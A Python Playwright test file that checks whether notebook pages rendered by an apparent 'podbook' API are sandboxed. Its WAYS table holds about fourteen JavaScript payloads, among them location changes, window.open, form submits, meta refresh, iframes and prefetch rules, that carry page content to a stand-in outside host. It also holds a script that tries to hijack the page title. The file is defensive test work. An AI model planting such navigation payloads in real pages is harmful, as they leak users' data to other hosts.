"""A page opened in a window of its own: our head, our title, and nothing leaves by navigation."""

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, PlainTextResponse, Response
from starlette.routing import Route

from podbook_api.artifacts.artifact_names import HTML_TYPE
from podbook_api.artifacts.execution_artifacts import Body
from podbook_api.artifacts.framed_pages import page_answers
from podbook_api.artifacts.rendering.page import page
from podbook_crds.ends.phases import Phase
from podbook_crds.resources.execution import Execution
from tests.support import browser as browsers
from tests.support import website
from tests.support.browser import until
from tests.support.notebooks import code, ipynb, markdown
from tests.support.website import Site

LEAK = "there + '?' + document.body.textContent.length"
# Each would carry what the page holds to another host, without a click.
WAYS = {
    "location": f"location.href = {LEAK}",
    "assign": f"location.assign({LEAK})",
    "replace": f"location.replace({LEAK})",
    "navigation": f"navigation.navigate({LEAK})",
    "refresh": f"document.write('<meta http-equiv=refresh content=\"0;url=' + {LEAK} + '\">')",
    "link": f"Object.assign(document.createElement('a'), {{href: {LEAK}}}).click()",
    "download": f"Object.assign(document.createElement('a'),"
    f" {{href: {LEAK}, download: 'x'}}).click()",
    "window": f"window.open({LEAK})",
    "itself": f"window.open({LEAK}, '_self')",
    "top": f"top.location = {LEAK}",
    "form": f"document.body.insertAdjacentHTML('beforeend',"
    f" `<form id=f action='${{{LEAK}}}'></form>`); document.getElementById('f').submit()",
    "prefetch": "document.head.append(Object.assign(document.createElement('script'),"
    " {type: 'speculationrules', textContent: JSON.stringify({prefetch:"
    f" [{{urls: [{LEAK}], eagerness: 'immediate'}}]}})}}))",
    "frame": f"document.body.append(Object.assign(document.createElement('iframe'),"
    f" {{src: {LEAK}}}))",
    "within": "const f = document.createElement('iframe'); f.srcdoc = '<p>'; f.onload = () => {"
    f" f.onload = null; f.contentWindow.location = {LEAK} }}; document.body.append(f)",
}
# A browser opens no window without a click, and fetches ahead when it sees fit, whatever a page's
# policy says.
NEVER = {"window", "prefetch"}


@dataclass
class Alone:
    """Runs' pages as the API answers with them, by a name in their address."""

    notebooks: dict[str, bytes] = field(default_factory=dict)
    statuses: dict[str, dict[str, Any]] = field(default_factory=dict)
    site: Site = field(default_factory=lambda: Site(Starlette()))

    def address(self, name: str) -> str:
        return f"{self.site.url}/v1/{name}/notebook.html"

    async def html(self, execution: Execution, *, report: bool) -> Body:
        """Stand for the artifacts of a run."""
        data = page(self.notebooks[execution.name], report=report).encode()
        return Body(media_type=HTML_TYPE, size=len(data), etag=None, data=data)

    def app(self) -> Starlette:
        async def shown(request: Request) -> Response:
            name = request.path_params["name"]
            metadata = {"namespace": "here", "name": name, "uid": "u"}
            status = self.statuses.get(name, {"phase": Phase.SUCCEEDED})
            given = {"region": "<b>north</b>", "password": "hunter2"}
            spec = {"notebook": {"name": "sales"}, "parameters": given}
            parts = {"spec": spec, "status": status}
            execution = Execution.from_resource({"metadata": metadata, **parts})
            artifacts: Any = self
            return await page_answers.page(
                request, artifacts, execution, {"password"}, report=False
            )

        async def bare(request: Request) -> Response:
            notebook = self.notebooks[request.path_params["name"]]
            return HTMLResponse(page(notebook, report=False))

        return Starlette(
            routes=[Route("/v1/{name}/notebook.html", shown), Route("/bare/{name}", bare)]
        )


@pytest.fixture(scope="module")
def alone() -> Iterator[Alone]:
    runs = Alone()
    with website.running(runs.app()) as site:
        runs.site = site
        yield runs


@pytest.fixture(scope="module")
def tab(browser: Browser) -> Iterator[Page]:
    with browsers.tab(browser) as opened:
        yield opened


@pytest.fixture(scope="module")
def left(browser: Browser, alone: Alone) -> Iterator[list[str]]:
    """What arrived elsewhere, of each way as it is answered and then without any protection."""
    with website.running(_elsewhere()) as other:
        for way, act in WAYS.items():
            for name in (way, f"{way}-bare"):
                script = f"<script>const there = '{other.url}/{name}'; {act}</script>"
                alone.notebooks[name] = ipynb(code(html=script))
        with browsers.tab(browser) as opened:
            for way in WAYS:
                opened.context.new_page().goto(alone.address(way), wait_until="commit")
            until(opened, lambda: _unseen(alone))
            # Later than each of the others: what these do in that time, those could have done.
            for way in WAYS:
                bare = f"{alone.site.url}/bare/{way}-bare"
                opened.context.new_page().goto(bare, wait_until="commit")
            open_ones = {f"GET /{way}-bare" for way in WAYS.keys() - NEVER}
            until(opened, lambda: open_ones - set(other.requests))
        yield other.requests


def _unseen(alone: Alone) -> set[str]:
    """Return what was not asked for twice, as a frame of ours and the page in it are."""
    asked = alone.site.requests.count
    return {way for way in WAYS if asked(f"GET /v1/{way}/notebook.html") != 2}


def _elsewhere() -> Starlette:
    async def anything(_: Request) -> Response:
        return PlainTextResponse("had it")

    return Starlette(routes=[Route("/{path:path}", anything)])


@pytest.mark.parametrize("way", WAYS)
def test_a_page_that_navigates_leaks_nothing(left: list[str], way: str) -> None:
    assert f"GET /{way}" not in left


def test_the_head_says_how_it_went_and_cannot_be_taken_over(alone: Alone, tab: Page) -> None:
    hijack = "<script>document.title = 'hijacked'; top.document.title = 'hijacked'</script>"
    alone.notebooks["failed"] = ipynb(markdown(hijack), code("raise"))
    alone.statuses["failed"] = {
        "phase": Phase.FAILED,
        "message": "KeyError: 'zzz'",
        "exception": {"name": "KeyError", "value": "'zzz'", "cell": 1},
        "cells": {"total": 4, "completed": 2},
    }

    tab.goto(alone.address("failed"))

    expect(tab.frame_locator("iframe").get_by_text("raise")).to_be_visible()
    expect(tab).to_have_title("sales · Failed")
    document = tab.content()
    assert "#podbook-cell-2" in document
    assert json.dumps("sales") in document
    expect(tab.locator("header")).to_contain_text(
        "Stopped at cell 2: KeyError: 'zzz' (2 of 4 code cells had run)"
    )
    expect(tab.locator("header")).to_contain_text('region"<b>north</b>"password•••')
    assert "hunter2" not in document
    assert "hijacked" not in document
